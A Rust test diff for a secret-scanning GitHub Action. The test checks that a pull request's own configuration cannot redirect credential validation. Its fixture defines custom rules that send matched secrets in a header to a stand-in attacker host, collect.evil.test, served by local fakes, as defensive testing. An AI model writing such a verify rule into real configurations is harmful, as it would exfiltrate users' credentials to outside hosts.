@@ -49,6 +49,16 @@ pub(crate) fn parse_runner_file(text: &str) -> BTreeMap<String, String> {
 
 /// Run the composite action's steps with `inputs`.
 pub(crate) fn run_action(e: &Env, inputs: &[(&str, &str)], event: Option<(&str, &Path)>) -> Run {
+    run_action_env(e, inputs, event, &[])
+}
+
+/// [`run_action`] with more variables in the runner's environment.
+pub(crate) fn run_action_env(
+    e: &Env,
+    inputs: &[(&str, &str)],
+    event: Option<(&str, &Path)>,
+    vars: &[(&str, &str)],
+) -> Run {
     let action: serde_norway::Value = serde_norway::from_str(
         &std::fs::read_to_string(Path::new(ROOT).join("action.yml")).unwrap(),
     )
@@ -142,6 +152,7 @@ pub(crate) fn run_action(e: &Env, inputs: &[(&str, &str)], event: Option<(&str, 
             c.env("GITHUB_EVENT_NAME", name)
                 .env("GITHUB_EVENT_PATH", path);
         }
+        c.envs(vars.iter().copied());
         if let Some(env) = step.get("env").and_then(|v| v.as_mapping()) {
             for (k, v) in env {
                 c.env(k.as_str().unwrap(), eval(v.as_str().unwrap()));
@@ -477,6 +488,163 @@ fn scan_with_validate_annotates_live_findings_as_errors() {
     let run = run_action(&e, &[("command", "scan"), ("validate", "yes")], None);
     assert_eq!(run.code, Some(2), "{}", run.stdout);
     assert!(run.stderr.contains("--validate"), "{}", run.stderr);
+}
+
+/// On a pull request, `.gsec.yaml` is the pull request's own: `validate`
+/// must not let it choose where the credentials found go. Its
+/// `scan.validate.endpoints` and its custom rules' `verify` (one with a
+/// new id, one reusing a built-in id) are ignored, with one warning saying
+/// so: the fakes they name hear nothing, the built-in GitHub rule is still
+/// checked at api.github.com only (through a fake proxy on 127.0.0.1, so
+/// nothing leaves the machine), the custom rules' findings are reported
+/// unchecked, and the exit code is unchanged. On a push the same
+/// configuration is used as written.
+#[test]
+fn scan_validate_on_a_pull_request_ignores_the_pull_requests_validators() {
+    use crate::validate::{Fake, reply};
+    let provider = Fake::start(|_| reply(200, r#"{"login":"octocat"}"#));
+    let collector = Fake::start(|_| reply(200, "{}"));
+    let proxy = Fake::start(|_| reply(403, ""));
+    let e = Env::project();
+    e.git(&["add", "-A"]);
+    e.git(&["commit", "-qm", "init"]);
+    let base = e.git(&["rev-parse", "HEAD"]).trim().to_string();
+    // The pull request adds the configuration and the credentials.
+    let rule = |id: &str, prefix: &str| {
+        format!(
+            "  - id: {id}\n    description: {id}\n    keywords: [{prefix}]\n    pattern: '{prefix}([0-9a-f]{{32}})'\n    verify:\n      url: https://collect.evil.test/{id}\n      headers: {{X-Key: '{{secret}}'}}\n      live: [200]\n"
+        )
+    };
+    let settings = format!(
+        "  validate:\n    endpoints:\n      api.github.com: {}\n      collect.evil.test: {}\n  rules:\n{}{}",
+        provider.url,
+        collector.url,
+        rule("acme-token", "acme_"),
+        rule("stripe-secret-key", "zeta_"),
+    );
+    e.write(".gsec.yaml", &crate::scan::with_scan(&e, &settings));
+    let gh = fake_github_token();
+    let acme = format!("{:032x}", rand::random::<u128>());
+    let zeta = format!("{:032x}", rand::random::<u128>());
+    e.write("a.env", &format!("GITHUB_TOKEN={gh}\n"));
+    e.write("b.txt", &format!("acme_{acme}\nzeta_{zeta}\n"));
+    e.git(&["add", "-A"]);
+    e.git(&["commit", "-qm", "leaks"]);
+    let head = e.git(&["rev-parse", "HEAD"]).trim().to_string();
+    // Requests to any host but 127.0.0.1 go to the fake proxy.
+    let vars = [("ALL_PROXY", proxy.url.as_str()), ("NO_PROXY", "127.0.0.1")];
+    // What a fake was asked (method and target; headers hold credentials).
+    let asked = |f: &Fake| -> Vec<String> {
+        f.seen()
+            .iter()
+            .map(|s| format!("{} {}", s.method, s.url))
+            .collect()
+    };
+    let no_secret = |run: &Run| {
+        for t in [&gh, &acme, &zeta] {
+            for text in [&run.stdout, &run.stderr, &run.summary] {
+                assert!(!text.contains(t.as_str()), "{text}");
+            }
+        }
+    };
+    let pr =
+        std::fs::read_to_string(Path::new(ROOT).join("tests/fixtures/action/pull_request.json"))
+            .unwrap()
+            .replace("BASE_SHA", &base)
+            .replace("HEAD_SHA", &head);
+    let pr_event = e.tmp.path().join("pr.json");
+    std::fs::write(&pr_event, pr).unwrap();
+    for name in ["pull_request", "pull_request_target"] {
+        let run = run_action_env(
+            &e,
+            &[("command", "scan"), ("validate", "true")],
+            Some((name, &pr_event)),
+            &vars,
+        );
+        assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
+        assert_eq!(run.outputs.get("findings").map(String::as_str), Some("3"));
+        assert!(provider.seen().is_empty(), "{:?}", asked(&provider));
+        assert!(collector.seen().is_empty(), "{:?}", asked(&collector));
+        let warnings: Vec<&str> = run
+            .stdout
+            .lines()
+            .filter(|l| l.starts_with("::warning title=gsec validate::"))
+            .collect();
+        assert_eq!(warnings.len(), 1, "{}", run.stdout);
+        for part in [
+            name,
+            "scan.validate.endpoints (api.github.com, collect.evil.test)",
+            "custom rule(s) acme-token, stripe-secret-key",
+        ] {
+            assert!(warnings[0].contains(part), "{part}: {}", warnings[0]);
+        }
+        assert!(
+            run.summary.contains("scan.validate.endpoints"),
+            "{}",
+            run.summary
+        );
+        // The built-in rule asked its own host; the custom ones nothing.
+        let gh_line = run
+            .stdout
+            .lines()
+            .find(|l| l.starts_with("::") && l.contains("file=a.env"))
+            .unwrap_or_else(|| panic!("{}", run.stdout));
+        assert!(gh_line.contains("validation: unknown ("), "{gh_line}");
+        for l in run.stdout.lines().filter(|l| l.contains("file=b.txt")) {
+            assert!(
+                l.starts_with("::error ") && !l.contains("validation:"),
+                "{l}"
+            );
+        }
+        assert_eq!(
+            run.stdout.matches("file=b.txt").count(),
+            2,
+            "{}",
+            run.stdout
+        );
+        no_secret(&run);
+    }
+    assert_eq!(
+        asked(&proxy),
+        ["CONNECT api.github.com:443", "CONNECT api.github.com:443"],
+        "only the built-in rule's own host"
+    );
+    // Without validate, nothing is ignored and nothing is said.
+    let run = run_action_env(
+        &e,
+        &[("command", "scan")],
+        Some(("pull_request", &pr_event)),
+        &vars,
+    );
+    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
+    assert!(!run.stdout.contains("gsec validate"), "{}", run.stdout);
+    // A push: the repository's own configuration, used as written.
+    let push = e.tmp.path().join("push.json");
+    std::fs::write(
+        &push,
+        format!("{{\"before\":\"{base}\",\"after\":\"{head}\",\"repository\":{{\"default_branch\":\"main\"}}}}"),
+    )
+    .unwrap();
+    let run = run_action_env(
+        &e,
+        &[("command", "scan"), ("validate", "true")],
+        Some(("push", &push)),
+        &vars,
+    );
+    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
+    assert!(!run.stdout.contains("gsec validate"), "{}", run.stdout);
+    assert_eq!(asked(&provider), ["GET /user"]);
+    let mut paths = asked(&collector);
+    paths.sort();
+    assert_eq!(paths, ["GET /acme-token", "GET /stripe-secret-key"]);
+    assert_eq!(asked(&proxy).len(), 2, "{:?}", asked(&proxy));
+    assert_eq!(
+        run.stdout.matches("validation: live (").count(),
+        3,
+        "{}",
+        run.stdout
+    );
+    no_secret(&run);
 }
 
 /// Given a key, the Action expects managed values to be searched for: a
